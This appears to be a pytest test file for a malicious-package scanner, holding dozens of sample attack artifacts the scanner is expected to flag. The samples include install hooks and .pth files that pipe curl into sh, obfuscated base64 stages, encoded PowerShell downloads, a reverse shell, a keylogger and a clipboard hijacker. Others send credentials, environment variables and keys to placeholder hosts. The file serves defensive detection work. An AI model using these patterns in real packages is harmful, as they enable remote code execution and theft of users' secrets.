# ruff: noqa: E501
"""What an artifact of each known kind of attack comes to. Hosts end in .invalid or are addresses for documentation."""

from __future__ import annotations

import base64

import pytest

from tests.code.artifact import judged

HOOK = """
from setuptools import setup
from setuptools.command.{module} import {module}


class Hook({module}):
    def run(self):
        {module}.run(self)
        {act}


setup(name='example', cmdclass={{'{module}': Hook}})
"""
SEND = "__import__('urllib.request').request.urlopen('https://drop.invalid/?' + __import__('socket').gethostname())"
HONEST = "\n".join(f"def function_{number}(value):\n    return value + {number}\n" for number in range(3000))
ENCODED = base64.b64encode("iwr https://drop.invalid/a.ps1 | iex".encode("utf-16-le")).decode()
STAGE = base64.b64encode(b"import os; os.system('curl https://drop.invalid/x | sh')").decode()


def sdist(setup: str, **more: str) -> dict[str, str]:
    return {
        "example-1.0/setup.py": setup,
        **{f"example-1.0/{path.replace('__', '/')}.py": text for path, text in more.items()},
    }


CASES: dict[str, tuple[str, dict[str, str]]] = {
    "setup.py at module level": ("sdist", sdist("import os\nos.system('curl https://drop.invalid/x | sh')\nfrom setuptools import setup\nsetup()")),
    **{
        f"cmdclass {module}": ("sdist", sdist(HOOK.format(module=module, act=SEND)))
        for module in ("install", "develop", "egg_info", "build_py", "sdist", "bdist_wheel", "build_ext")
    },
    "cmdclass that calls a sibling module": ("sdist", sdist(HOOK.format(module="install", act="from helper import go; go()"), helper=f"def go():\n    {SEND}\n")),
    "in-tree build backend": (
        "sdist",
        {
            "example-1.0/pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
            "example-1.0/backend.py": "import os\ndef build_wheel(directory, config_settings=None, metadata_directory=None):\n    os.system('curl https://drop.invalid/x | sh')\n",
        },
    ),
    ".pth line": ("wheel", {"example.pth": "import os; os.system('curl https://drop.invalid/x | sh')\n"}),
    ".pth line behind blanks": ("wheel", {"example.pth": f"import os{' ' * 300}; exec(__import__('base64').b64decode('{STAGE}'))\n"}),
    ".pth and the file beside it": ("wheel", {"example.pth": "import _example_start\n", "_example_start.py": "import os\nos.system('curl https://drop.invalid/x | sh')\n"}),
    "sitecustomize": ("wheel", {"sitecustomize.py": "import os\n"}),
    "usercustomize": ("wheel", {"usercustomize.py": "import os\n"}),
    "package __init__": ("wheel", {"example/__init__.py": "import requests, os\nopen('/tmp/x', 'wb').write(requests.get('https://drop.invalid/x').content)\nos.system('/tmp/x')\n"}),
    "one statement in a large honest file": ("wheel", {"example/core.py": HONEST[: len(HONEST) // 2].rpartition("def ")[0] + f"\nexec(__import__('base64').b64decode('{STAGE}'))\n" + HONEST}),
    "source written to a temporary file and started": ("wheel", {"example/__init__.py": "from tempfile import NamedTemporaryFile as _f\nfrom os import system as _s\n_t = _f(delete=False)\n_t.write(b\"from urllib.request import urlopen as _u;exec(_u('https://drop.invalid/a').read())\")\n_t.close()\n_s(f'start pythonw {_t.name}')\n"}),
    "zip loader in a hook": ("sdist", sdist(HOOK.format(module="install", act="import zipimport, urllib.request as u; u.urlretrieve('https://drop.invalid/a.zip', 'a.zip'); zipimport.zipimporter('a.zip').load_module('m')"))),
    "one GET with the host's name": ("sdist", sdist(f"from setuptools import setup\n{SEND}\nsetup()\n")),
    "one DNS lookup with the user's name": ("sdist", sdist("import socket, getpass\nfrom setuptools import setup\nsocket.gethostbyname(getpass.getuser() + '.drop.invalid')\nsetup()\n")),
    "a constant out-of-band host in a hook": ("sdist", sdist(HOOK.format(module="install", act="import urllib.request; urllib.request.urlopen('http://abc.oastify.com')"))),
    "os.startfile of a download": ("wheel", {"example/__init__.py": "import os, requests\nopen('a.exe', 'wb').write(requests.get('https://drop.invalid/a.exe').content)\nos.startfile('a.exe')\n"}),
    "ctypes of a download": ("wheel", {"example/__init__.py": "import ctypes, urllib.request\nurllib.request.urlretrieve('https://drop.invalid/a.dll', 'a.dll')\nctypes.CDLL('a.dll')\n"}),
    "java of a download": ("wheel", {"example/__init__.py": "import subprocess, urllib.request\nurllib.request.urlretrieve('https://drop.invalid/a.jar', 'a.jar')\nsubprocess.Popen(['java', '-jar', 'a.jar'])\n"}),
    "Startup folder": ("wheel", {"example/__init__.py": "import os, shutil\nshutil.copy(__file__, os.path.join(os.environ['APPDATA'], 'Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup', 'a.py'))\n"}),
    "private key posted": ("wheel", {"example/keys.py": "import requests\ndef sign(private_key, text):\n    requests.post('https://drop.invalid/k', json={'k': private_key})\n    return text\n"}),
    "PowerShell -EncodedCommand": ("wheel", {"example/__init__.py": f"import subprocess\nsubprocess.Popen('powershell -w hidden -EncodedCommand {ENCODED}', shell=True)\n"}),
    "shell one-liner": ("wheel", {"example/__init__.py": "import subprocess\nsubprocess.run(['bash', '-c', 'curl -s https://drop.invalid/i.sh | bash'])\n"}),
    "reverse shell": ("wheel", {"example/__init__.py": "import socket, os, subprocess\ns = socket.socket()\ns.connect(('198.18.7.7', 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\nsubprocess.call(['/bin/sh', '-i'])\n"}),
    "clipboard swapping": ("wheel", {"example/__init__.py": "import pyperclip, re\nif re.match('^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', pyperclip.paste()):\n    pyperclip.copy('bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh')\n"}),
    "key logging": ("wheel", {"example/__init__.py": "import keyboard, requests\nkeyboard.on_press(lambda e: requests.post('https://drop.invalid', json={'k': e.name}))\n"}),
    "miner": ("wheel", {"example/__init__.py": "import subprocess\ndef start():\n    subprocess.Popen(['./xmrig', '-o', 'stratum+tcp://pool.invalid:3333'])\n"}),
    "code in a sound": ("wheel", {"example/__init__.py": "import wave, base64\nexec(base64.b64decode(wave.open('ring.wav').readframes(9999)))\n"}),
    "exec of fetched text": ("wheel", {"example/__init__.py": "import urllib.request\nexec(urllib.request.urlopen('https://drop.invalid/a').read())\n"}),
    "Python 2": ("sdist", sdist("from distutils.core import setup\nimport os, urllib2\nprint 'installing'\nurllib2.urlopen('http://198.18.7.7/' + os.environ['USER'] + os.popen('hostname').read())\nsetup(name='example')\n")),
    "browser passwords": ("wheel", {"example/__init__.py": "import os, requests\np = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\nrequests.post('https://drop.invalid', files={'f': open(p, 'rb')})\n"}),
    "the whole environment": ("wheel", {"example/__init__.py": "import os, requests\nrequests.post('https://drop.invalid', json=dict(os.environ))\n"}),
    "reward configuration": ("wheel", {"example/__init__.py": "import requests\nrequests.post('https://drop.invalid', data=open('config/reward_model.yaml').read())\n"}),
    "CJK identifiers": ("wheel", {"example/__init__.py": f"import base64 as 甲\n乙 = exec\n丙 = 甲.b64decode\n乙(丙('{STAGE}'))\n"}),
    "arithmetic": ("wheel", {"example/__init__.py": "exec(''.join(map(getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2] + copyright.__str__()[4 << 0]), [112, 114, 105, 110, 116, 40, 49, 41])))\n"}),
}  # fmt: skip


@pytest.mark.parametrize("name", CASES)
def test_is_found_and_explained(name: str) -> None:
    kind, files = CASES[name]
    analysis = judged(files, kind)  # type: ignore[arg-type]
    assert analysis.verdict in {"malicious", "suspicious"}, (analysis.deciding_rules, analysis.coverage)
    deciding = [one for one in analysis.findings if one.rule in analysis.deciding_rules]
    assert deciding
    assert all(one.evidence and one.summary and one.remediation for one in deciding)


def test_a_powershell_command_is_shown_decoded() -> None:
    kind, files = CASES["PowerShell -EncodedCommand"]
    layers = [layer for one in judged(files, kind).findings for evidence in one.evidence for layer in evidence.layers]  # type: ignore[arg-type]
    assert "iwr https://drop.invalid/a.ps1 | iex" in {layer.text for layer in layers}


@pytest.mark.parametrize(("member", "verdict"), [("example/logo.png", "suspicious"), ("example/setup.exe", "noted")])
@pytest.mark.parametrize("magic", [b"MZ", b"\x7fELF"])
def test_an_executable_in_a_package_that_calls_itself_pure(member: str, verdict: str, magic: bytes) -> None:
    analysis = judged({"example/__init__.py": "X = 1\n"}, heads={member: magic + b"\0" * 200})
    assert (analysis.verdict, analysis.deciding_rules) == (verdict, ("embedded-executable",))


def test_compiled_modules_and_no_source() -> None:
    analysis = judged({"example/core.cpython-311-x86_64-linux-gnu.so": ""})
    assert "compiled-only" in {one.rule for one in analysis.findings}
